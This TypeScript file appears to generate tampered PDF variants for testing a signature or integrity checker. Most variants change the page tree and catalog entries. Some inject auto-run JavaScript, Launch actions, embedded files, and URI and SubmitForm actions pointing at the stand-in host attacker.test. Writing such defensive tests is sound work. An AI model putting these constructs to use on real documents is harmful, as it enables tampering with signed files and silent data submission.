import { isArray, isDict, isRef, type PdfRef } from '../../../pdf/objects.js';
import { attacks, type Attack } from '../attack.js';
import { at, dictText, stream, type Edit } from '../edit.js';
import { update } from './shadow.js';

const tree = (edit: Edit): Promise<PdfRef> => edit.ref(edit.catalog, 'Pages');

const kids = (
  change: (list: readonly PdfRef[], edit: Edit) => Promise<readonly PdfRef[]> | readonly PdfRef[],
  count = '',
): Attack['make'] =>
  update(async (edit) => {
    const pages = await tree(edit);
    const list = await edit.file.resolve(await edit.value(pages, 'Kids'));
    const next = await change(isArray(list) ? list.filter(isRef) : [], edit);
    await edit.set(pages, { Kids: next, Count: count === '' ? String(next.length) : count });
  });
const page = (changes: Readonly<Record<string, string>>, index = 0): Attack['make'] =>
  update(async (edit) => edit.set(await edit.page(index), changes));
const pages = (changes: Readonly<Record<string, string>>): Attack['make'] =>
  update(async (edit) => edit.set(await tree(edit), changes));
const catalog = (changes: Readonly<Record<string, string>>): Attack['make'] =>
  update(async (edit) => edit.set(edit.catalog, changes));

const FILE = (edit: Edit): string => {
  const embedded = edit.add(stream('x', '/Type /EmbeddedFile'));
  return at(edit.add(dictText(`/Type /Filespec /F (x.pdf) /UF (x.pdf) /EF << /F ${at(embedded)} >>`)));
};
const names = (key: string, text: (edit: Edit) => string): Attack['make'] =>
  update(async (edit) => {
    const old = await edit.file.resolve(await edit.value(edit.catalog, 'Names'));
    const entries = new Map(isDict(old) ? old.entries : []);
    entries.set(key, dictText(`/A ${text(edit)}`).entries.get('A') ?? null);
    await edit.set(edit.catalog, { Names: { type: 'dict', entries } });
  });
const SCRIPT = '<< /S /JavaScript /JS (app.alert) >>';

export const documentAttacks = [
  ...attacks('page', {
    added: kids(async (list, edit) => [
      ...list,
      edit.add({ type: 'dict', entries: await edit.entries(list[0] ?? edit.catalog) }),
    ]),
    'added-first': kids(async (list, edit) => [
      edit.add({ type: 'dict', entries: await edit.entries(list[1] ?? edit.catalog) }),
      ...list,
    ]),
    'added-twice': kids((list) => [...list, ...list.slice(0, 1)]),
    'removed-last': kids((list) => list.slice(0, -1)),
    'removed-first': kids((list) => list.slice(1)),
    'removed-all': kids(() => []),
    swapped: kids((list) => [...list].reverse()),
    'count-less': kids((list) => list, '1'),
    'count-more': kids((list) => list, '9'),
    'hidden-page': update(async (edit, { parts }) => edit.push(await tree(edit), 'Kids', parts.hiddenPage)),
    'null-page': update(async (edit) => edit.put(await edit.page(1), null)),
    rotated: page({ Rotate: '180' }),
    'rotated-90': page({ Rotate: '90' }, 1),
    cropped: page({ CropBox: '[0 0 595 400]' }),
    'media-smaller': page({ MediaBox: '[0 0 595 700]' }),
    'media-shifted': page({ MediaBox: '[0 400 595 842]' }),
    trimmed: page({ TrimBox: '[0 0 10 10]' }),
    scaled: page({ UserUnit: '4' }),
    'contents-gone': page({ Contents: '' }),
    'other-type': page({ Type: '/Template' }),
    timed: page({ Dur: '1' }),
    transition: page({ Trans: '<< /S /Wipe >>' }),
    thumbnail: update(async (edit) =>
      edit.set(await edit.page(), { Thumb: edit.add(stream('\xff', '/Subtype /Image /Width 1 /Height 1')) }),
    ),
    articles: page({ B: '[]' }),
    separations: page({ SeparationInfo: '<< /DeviceColorant /Black >>' }),
    'all-rotated': pages({ Rotate: '270' }),
    'all-cropped': pages({ CropBox: '[0 0 100 100]' }),
    'all-smaller': pages({ MediaBox: '[0 0 300 300]' }),
    'all-fonts': update(async (edit, { parts }) =>
      edit.set(await tree(edit), { Resources: `<< /Font << /F1 ${at(parts.hiddenFont)} >> >>` }),
    ),
    labels: catalog({ PageLabels: '<< /Nums [0 << /P (Page 9 of 9) >>] >>' }),
    layout: catalog({ PageLayout: '/TwoColumnLeft' }),
    'viewer-preferences': catalog({ ViewerPreferences: '<< /HideToolbar true >>' }),
    outline: catalog({ Outlines: '<< /Type /Outlines >>' }),
    threads: catalog({ Threads: '[]' }),
    language: catalog({ Lang: '(fr)' }),
    intents: catalog({ OutputIntents: '[<< /Type /OutputIntent /S /GTS_PDFX >>]' }),
    structure: catalog({ StructTreeRoot: '<< /Type /StructTreeRoot >>', MarkInfo: '<< /Marked true >>' }),
    requirements: catalog({ Requirements: '[<< /Type /Requirement /S /EnableJavaScripts >>]' }),
    'needs-rendering': catalog({ NeedsRendering: 'true' }),
    parts: catalog({ DPartRoot: '<< /Type /DPartRoot >>' }),
    'base-uri': catalog({ URI: '<< /Base (https://attacker.test/) >>' }),
    legal: catalog({ Legal: '<< /Attestation (x) >>' }),
    'version-odd': catalog({ Version: '(9.9)' }),
  }),
  ...attacks('active-content', {
    'open-script': catalog({ OpenAction: SCRIPT }),
    'open-place': catalog({ OpenAction: '[1 /Fit]' }),
    'open-launch': catalog({ OpenAction: '<< /S /Launch /F (x) >>' }),
    'open-address': catalog({ OpenAction: '<< /S /URI /URI (https://attacker.test/) >>' }),
    'open-submit': catalog({ OpenAction: '<< /S /SubmitForm /F (https://attacker.test/) >>' }),
    'open-layers': update(async (edit, { parts }) =>
      edit.set(edit.catalog, { OpenAction: `<< /S /SetOCGState /State [/ON ${at(parts.layerB)}] >>` }),
    ),
    'open-hide': catalog({ OpenAction: '<< /S /Hide /T (dose) >>' }),
    'open-reset': catalog({ OpenAction: '<< /S /ResetForm >>' }),
    'open-import': catalog({ OpenAction: '<< /S /ImportData /F (x.fdf) >>' }),
    'catalog-actions': catalog({ AA: `<< /WC ${SCRIPT} >>` }),
    'page-actions': page({ AA: `<< /O ${SCRIPT} >>` }),
    'page-actions-second': page({ AA: `<< /C ${SCRIPT} >>` }, 1),
    'named-scripts': names('JavaScript', () => `<< /Names [(a) ${SCRIPT}] >>`),
    'link-script': update(async (edit, { parts }) => edit.set(parts.link, { A: SCRIPT })),
    'link-address': update(async (edit, { parts }) =>
      edit.set(parts.link, { A: '<< /S /JavaScript /JS (x) >>', Border: '[0 0 0]' }),
    ),
    'box-script': update(async (edit, { parts }) => edit.set(parts.agree, { AA: `<< /D ${SCRIPT} >>` })),
    renditions: names('Renditions', () => '<< /Names [] >>'),
    destinations: names('Dests', () => '<< /Names [(a) [1 /Fit]] >>'),
    templates: names('Templates', () => '<< /Names [] >>'),
  }),
  ...attacks('embedded-file', {
    named: names('EmbeddedFiles', (edit) => `<< /Names [(x) ${FILE(edit)}] >>`),
    associated: update(async (edit) => edit.set(edit.catalog, { AF: `[${FILE(edit)}]` })),
    'associated-page': update(async (edit) => edit.set(await edit.page(), { AF: `[${FILE(edit)}]` })),
    collection: update(async (edit) => edit.set(edit.catalog, { Collection: '<< /Type /Collection /D (x) >>' })),
    attachment: update(async (edit) => {
      const note = edit.add(dictText(`/Type /Annot /Subtype /FileAttachment /Rect [60 700 80 740] /FS ${FILE(edit)}`));
      await edit.push(await edit.page(), 'Annots', note);
    }),
    'field-file': update(async (edit, { parts }) => edit.set(parts.note, { AF: `[${FILE(edit)}]` })),
  }),
];
